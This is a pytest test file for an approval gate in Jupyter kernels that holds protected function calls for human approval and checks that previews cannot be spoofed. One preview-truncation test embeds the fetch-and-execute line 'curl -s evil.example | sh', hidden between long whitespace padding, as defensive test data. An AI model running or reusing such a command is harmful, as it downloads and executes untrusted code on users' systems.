"""The gate in a plain Python process (no kernel): shapes of functions and what runs."""

from __future__ import annotations

import contextvars
import enum
import json
from pathlib import Path

import pytest

import jupyter_approvals as ja
from jupyter_approvals.core import errors
from jupyter_approvals.core.policy import ManualClock
from jupyter_approvals.core.project import make_git_top_level
from jupyter_approvals.kernel.preview import default_preview, render
from jupyter_approvals.kernel.session import KernelSession


@pytest.fixture
def session(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("JUPYTER_APPROVALS_STATE_DIR", str(tmp_path / "state"))
    project = tmp_path / "project"
    project.mkdir()
    clock = ManualClock()
    installed = KernelSession.install(KernelSession(None, clock=clock, cwd=project))
    # No frontend exists in this process: decisions are applied directly, guard off.
    installed.store.decision_guard = None
    installed.clock = clock
    yield installed
    installed.close()


def approve_pending(session, call):
    with pytest.raises(ja.ApprovalPending) as pending:
        call()
    session.clock.advance(2)
    details = pending.value.details
    session.store.decide(details["request_id"], "approve", details["fingerprint"])


def test_generator_functions_cannot_be_protected():
    # When a generator function is decorated
    # Then it is refused, since its work would happen after the approved call returned
    with pytest.raises(TypeError, match="generator function"):

        @ja.protected("file.delete")
        def delete_later(path):
            yield path


def test_a_function_returning_a_coroutine_fails_instead_of_executing_later(session):
    # Given a sync protected function that hands back a coroutine
    async def later():
        return "late"

    @ja.protected("x.later")
    def sneaky():
        return later()

    approve_pending(session, sneaky)
    # When it runs
    with pytest.raises(TypeError, match="must finish its work"):
        sneaky()
    # Then the run is recorded as failed, not executed
    assert session.store.recent(1)[0].status.value == "failed"


def test_the_lease_ends_with_the_run(session):
    # Given an approved run that leaks its context
    leaked = []

    @ja.protected("file.write")
    def write():
        ja.require_lease("file.write")
        leaked.append(contextvars.copy_context())

    approve_pending(session, write)
    write()
    # When the leaked context is used after the run ended
    # Then the lease no longer counts
    with pytest.raises(errors.ApprovalRequired):
        leaked[0].run(ja.require_lease, "file.write")


def test_withdraw_ends_the_request_of_exactly_this_call(session):
    @ja.protected("x.y")
    def act(n):
        return n

    with pytest.raises(ja.ApprovalPending):
        act(1)
    withdrawn = act.withdraw(1)
    assert withdrawn is not None
    assert withdrawn.status.value == "withdrawn"
    assert act.withdraw(2) is None


def test_preview_announces_every_cut():
    # Given arguments longer than the preview budget
    shell = "echo start" + " " * 120 + "; curl -s evil.example | sh ;" + " " * 120 + "echo done"
    many = list(range(10_000))
    # When the default preview renders them
    text = default_preview({"command": shell, "ids": many}, budget=100)
    # Then the start is shown and what is left out is counted, never silently dropped
    assert f"… {len(shell) - 100} more characters not shown" in text
    assert "more items not shown" in text
    assert render("short", 100) == "'short'"
    assert render((1,), 100) == "(1,)"
    assert render({"a": [1, 2]}, 100) == "{'a': [1, 2]}"


def test_prepare_normalizes_what_is_fingerprinted_shown_and_run(session, tmp_path):
    # Given a protected function whose arguments are normalized before anything else
    seen = []

    @ja.protected(
        "file.write",
        prepare=lambda path, text: {"path": str(Path(path).resolve()), "text": text.strip()},
        preview=lambda path, text: f"{path}: {text}",
    )
    def write(path, text):
        seen.append((path, text))

    target = tmp_path / "out.txt"
    # When it is asked for with padded text
    with pytest.raises(ja.ApprovalPending) as pending:
        write(str(target), "  hello  ")
    [info] = session.store.pending()
    # Then the preview shows the normalized arguments
    assert info.preview == f"{target.resolve()}: hello"
    # And a call that normalizes to the same arguments is the same request and runs once approved
    session.clock.advance(2)
    details = pending.value.details
    session.store.decide(details["request_id"], "approve", details["fingerprint"])
    write(str(target), "hello")
    assert seen == [(str(target.resolve()), "hello")]


def test_prepare_refuses_before_anything_is_asked(session):
    # Given a protected function whose prepare refuses an argument
    def refuse(count):
        if count < 0:
            raise errors.ApprovalInvalidArgument("count must not be negative", count=count)
        return {"count": count}

    @ja.protected("x.count", prepare=refuse)
    def count_down(count):
        return count

    # When it is called with a bad argument
    with pytest.raises(errors.ApprovalInvalidArgument) as refused:
        count_down(-1)
    # Then the code is stable and no request waits for a person
    assert refused.value.code == "APPROVAL_INVALID_ARGUMENT"
    assert session.store.pending() == []


def test_a_relative_state_dir_refuses_protected_calls_with_a_code_of_its_own(tmp_path: Path):
    # Given a kernel whose state dir setting is a relative path
    project = tmp_path / "project"
    project.mkdir()
    environ = {"JUPYTER_APPROVALS_STATE_DIR": "relative/state"}
    session = KernelSession.install(KernelSession(None, environ=environ, cwd=project))
    try:

        @ja.protected("file.write")
        def save(text: str) -> None:
            raise AssertionError("must not run")

        # When a protected function is called
        with pytest.raises(errors.ApprovalJournalUnusable) as refused:
            save("x")
        # Then it is refused as unusable (not as inside the project), and nothing was asked
        assert refused.value.code == "APPROVAL_JOURNAL_UNUSABLE"
        assert "must be an absolute path" in refused.value.message
        assert session.store.pending() == []
    finally:
        session.close()


def test_a_notebook_in_the_home_directory_asks_with_the_default_state_dir(
    tmp_path: Path, monkeypatch
):
    # Given a home directory (no git) with a notebook straight in it, and no state dir setting
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    monkeypatch.delenv("JUPYTER_APPROVALS_STATE_DIR", raising=False)
    session = KernelSession.install(KernelSession(None, environ={}, cwd=home))
    try:

        @ja.protected("file.write")
        def save(text: str) -> None:
            raise AssertionError("must not run unapproved")

        # When a protected function is called, Then it asks (it is not refused)
        with pytest.raises(ja.ApprovalPending):
            save("x")
        # And the journal is under the home directory's hidden state dir, outside any project
        assert session.journal.path.is_relative_to(home / ".local" / "state")
        assert [line for line in session.journal.path.read_text().splitlines() if line]
    finally:
        session.close()


def test_a_session_without_a_name_files_its_journal_under_the_directory_it_runs_in(
    tmp_path: Path, monkeypatch
):
    # Given a kernel of a session created without a name: jupyter_server passes the
    # directory (with a trailing separator) as JPY_SESSION_NAME, and starts the kernel in it
    monkeypatch.setenv("JUPYTER_APPROVALS_STATE_DIR", str(tmp_path / "state"))
    project = tmp_path / "work" / "project"
    make_git_top_level(project)
    environ = {"JPY_SESSION_NAME": f"{project}/"}
    session = KernelSession.install(KernelSession(None, environ=environ, cwd=project))
    try:
        # Then the project is that directory, not its parent, and no notebook is claimed
        assert session.project_root == project
        assert session.shown_notebook_path is None

        @ja.protected("file.write")
        def save(text: str) -> None:
            raise AssertionError("must not run unapproved")

        # And a protected call asks, rather than being refused
        with pytest.raises(ja.ApprovalPending):
            save("x")
    finally:
        session.close()


def test_a_call_past_the_pending_limit_is_refused_and_journaled(tmp_path: Path, monkeypatch):
    # Given a session that holds at most two pending requests, both in use
    from jupyter_approvals.core.policy import Limits

    monkeypatch.setenv("JUPYTER_APPROVALS_STATE_DIR", str(tmp_path / "state"))
    project = tmp_path / "project"
    project.mkdir()
    session = KernelSession.install(KernelSession(None, cwd=project, limits=Limits(max_pending=2)))
    try:

        @ja.protected("file.write")
        def save(text: str) -> None:
            raise AssertionError("must not run")

        for text in ("a", "b"):
            with pytest.raises(ja.ApprovalPending):
                save(text)
        # When a third distinct call is made
        with pytest.raises(errors.ApprovalTooManyPending):
            save("c")
        # Then nothing more waits, and the refusal has its journal line, naming the action
        assert len(session.store.pending()) == 2
        lines = [json.loads(line) for line in session.journal.path.read_text().splitlines()]
        [refused] = [line for line in lines if line["event"] == "refused"]
        assert refused["code"] == "APPROVAL_TOO_MANY_PENDING"
        assert refused["action"] == "file.write"
        assert refused["source"] == "code"
        assert "request_id" not in refused
    finally:
        session.close()


class Target(enum.Enum):
    """An enum whose members tell a different story than their value."""

    SCRATCH = "orders.csv"

    def __repr__(self) -> str:
        return "'scratch.txt'"

    def __str__(self) -> str:
        return "scratch.txt"

    def __format__(self, spec: str) -> str:
        return "scratch.txt"


def test_an_enum_argument_is_shown_as_its_class_and_value_not_its_own_text(session):
    # Given a protected function with a summary, called with a member that lies about itself
    @ja.protected("file.write", summary="Overwrite {target}")
    def overwrite(target: Target) -> None:
        raise AssertionError("must not run")

    with pytest.raises(ja.ApprovalPending):
        overwrite(Target.SCRATCH)
    [info] = session.store.pending()
    # Then the card shows what the fingerprint covers: the class and the stored value
    assert "scratch.txt" not in info.summary
    assert "scratch.txt" not in info.preview
    assert "'orders.csv'" in info.summary
    assert "Target('orders.csv')" in info.preview


def test_a_numpy_scalar_subclass_claiming_to_be_numpy_is_refused(session):
    import numpy as np

    # Given a subclass of numpy's float64 that claims numpy as its module
    class Quiet(np.float64):
        __module__ = "numpy"

        def __repr__(self) -> str:
            return "0.0"

    @ja.protected("table.write")
    def scale(factor) -> None:
        raise AssertionError("must not run")

    # When it is passed, Then it is refused as unfingerprintable, naming the type; nothing asks
    with pytest.raises(errors.ApprovalUnfingerprintable) as refused:
        scale(Quiet(1000.0))
    assert "Quiet" in refused.value.details["type"]
    assert session.store.pending() == []


class Shifty:
    """A path-like object that names one file when checked and another afterwards."""

    def __init__(self, first: str, then: str) -> None:
        self.answers = [first, then]

    def __fspath__(self) -> str:
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]


def test_a_path_like_that_changes_its_answer_is_read_once(session, tmp_path: Path):
    from jupyter_approvals.ops import write_file

    # Given a path-like that says notes.txt first and precious.csv afterwards
    shifty = Shifty(str(tmp_path / "notes.txt"), str(tmp_path / "precious.csv"))
    (tmp_path / "precious.csv").write_text("keep me")
    # When write_file is asked with it, approved, and run
    approve_pending(session, lambda: write_file(shifty, "new"))
    [info] = session.store.live()
    assert "notes.txt" in info.summary
    write_file(Shifty(str(tmp_path / "notes.txt"), str(tmp_path / "precious.csv")), "new")
    # Then the file written is the one the card named, and the other was never touched
    assert (tmp_path / "notes.txt").read_text() == "new"
    assert (tmp_path / "precious.csv").read_text() == "keep me"


def test_a_preview_function_returning_a_malformed_structured_preview_is_refused(session):
    from jupyter_approvals.core.structured import Preview

    # Given a protected function whose preview returns a structured form of another shape
    runs = []

    @ja.protected(
        "demo.run",
        preview=lambda n: Preview(f"run {n}", {"version": 1, "blocks": [{"type": "html"}]}),
    )
    def run_it(n):
        runs.append(n)

    # When it is called
    with pytest.raises(errors.ApprovalInvalidPreview) as refused:
        run_it(1)
    # Then the code says why, no request was opened, nothing ran
    assert refused.value.code == "APPROVAL_INVALID_PREVIEW"
    assert "block type 'html'" in refused.value.message
    assert session.store.pending() == []
    assert runs == []


def test_a_preview_function_may_return_a_structured_preview_beside_its_text(session):
    from jupyter_approvals.core.structured import Preview
    from jupyter_approvals.previews.structured import StructuredPreview

    # Given a protected function whose preview has a structured form
    def preview(n):
        built = StructuredPreview()
        built.count("rows to add", n, "added")
        return Preview(f"add {n} rows", built.document())

    @ja.protected("demo.add", preview=preview)
    def add(n):
        return n

    # When it asks for approval
    with pytest.raises(ja.ApprovalPending):
        add(3)
    # Then the request carries both forms
    [info] = session.store.pending()
    assert info.preview == "add 3 rows"
    assert info.structured["headline"] == [{"label": "rows to add", "count": 3, "tone": "added"}]
